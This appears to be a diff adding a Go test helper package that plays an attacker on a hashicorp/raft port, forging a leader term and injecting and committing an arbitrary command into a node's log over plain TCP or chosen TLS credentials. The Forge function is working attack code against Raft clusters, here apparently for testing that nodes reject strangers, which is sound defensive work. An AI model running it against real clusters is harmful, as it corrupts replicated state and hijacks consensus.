@@ -1,0 +1,106 @@
+// Package rafttest plays a stranger on a Raft port, for tests: a raw
+// hashicorp/raft transport that speaks the wire format with whatever
+// credentials it is given (none, plain TCP, or a TLS configuration), as
+// an attacker who reaches the port would.
+package rafttest
+
+import (
+	"crypto/tls"
+	"errors"
+	"fmt"
+	"net"
+	"time"
+
+	"github.com/hashicorp/go-hclog"
+	"github.com/hashicorp/raft"
+)
+
+// ForgedTerm is the term a Client claims: far above any a test cluster
+// reaches, so that a node that listens takes the client for its leader.
+const ForgedTerm = 1 << 40
+
+// Client sends Raft RPCs to one node.
+type Client struct {
+	ln     net.Listener
+	trans  *raft.NetworkTransport
+	target raft.ServerAddress
+	hdr    raft.RPCHeader
+}
+
+// Dial returns a client of the node whose Raft port is addr: over TLS
+// with conf (which must name the node's ALPN protocol), or plain TCP if
+// conf is nil. Connections are made at the first RPC.
+func Dial(addr string, conf *tls.Config) (*Client, error) {
+	ln, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		return nil, err
+	}
+	trans := raft.NewNetworkTransportWithConfig(&raft.NetworkTransportConfig{
+		Stream: stream{ln, conf}, MaxPool: 1, Timeout: 5 * time.Second, Logger: hclog.NewNullLogger(),
+	})
+	hdr := raft.RPCHeader{ProtocolVersion: raft.ProtocolVersionMax, ID: []byte("forger"), Addr: []byte(ln.Addr().String())}
+	return &Client{ln: ln, trans: trans, target: raft.ServerAddress(addr), hdr: hdr}, nil
+}
+
+// Close closes the client's connections.
+func (c *Client) Close() {
+	c.trans.CloseStreams()
+	c.trans.Close()
+}
+
+// Heartbeat sends an empty AppendEntries of the given term and returns
+// the node's answer. A term below the node's changes nothing there.
+func (c *Client) Heartbeat(term uint64) (raft.AppendEntriesResponse, error) {
+	var resp raft.AppendEntriesResponse
+	err := c.trans.AppendEntries("", c.target, &raft.AppendEntriesRequest{RPCHeader: c.hdr, Term: term}, &resp)
+	return resp, err
+}
+
+// Append sends an AppendEntries of term carrying data as a command at
+// index, and commits it (the leader's commit index is index).
+func (c *Client) Append(term, index uint64, data []byte) error {
+	req := &raft.AppendEntriesRequest{
+		RPCHeader: c.hdr, Term: term, LeaderCommitIndex: index,
+		Entries: []*raft.Log{{Index: index, Term: term, Type: raft.LogCommand, Data: data, AppendedAt: time.Now()}},
+	}
+	var resp raft.AppendEntriesResponse
+	if err := c.trans.AppendEntries("", c.target, req, &resp); err != nil {
+		return err
+	}
+	if !resp.Success {
+		return errors.New("rafttest: the node refused the entry")
+	}
+	return nil
+}
+
+// Forge is the attack: a heartbeat of ForgedTerm, which makes a node that
+// accepts it a follower of the client and tells its last index, then
+// that index + 1 appended and committed with data (one command, as the
+// node's log carries them). It returns nil if the node took the entry:
+// its state machine then applies data.
+func Forge(addr string, conf *tls.Config, data []byte) error {
+	c, err := Dial(addr, conf)
+	if err != nil {
+		return err
+	}
+	defer c.Close()
+	hb, err := c.Heartbeat(ForgedTerm)
+	if err != nil {
+		return fmt.Errorf("rafttest: heartbeat: %w", err)
+	}
+	return c.Append(ForgedTerm, hb.LastLog+1, data)
+}
+
+// stream is a raft.StreamLayer that only dials.
+type stream struct {
+	net.Listener
+	conf *tls.Config
+}
+
+func (s stream) Dial(addr raft.ServerAddress, timeout time.Duration) (net.Conn, error) {
+	d := &net.Dialer{Timeout: timeout}
+	if s.conf == nil {
+		return d.Dial("tcp", string(addr))
+	}
+	return tls.DialWithDialer(d, "tcp", string(addr), s.conf)
+}
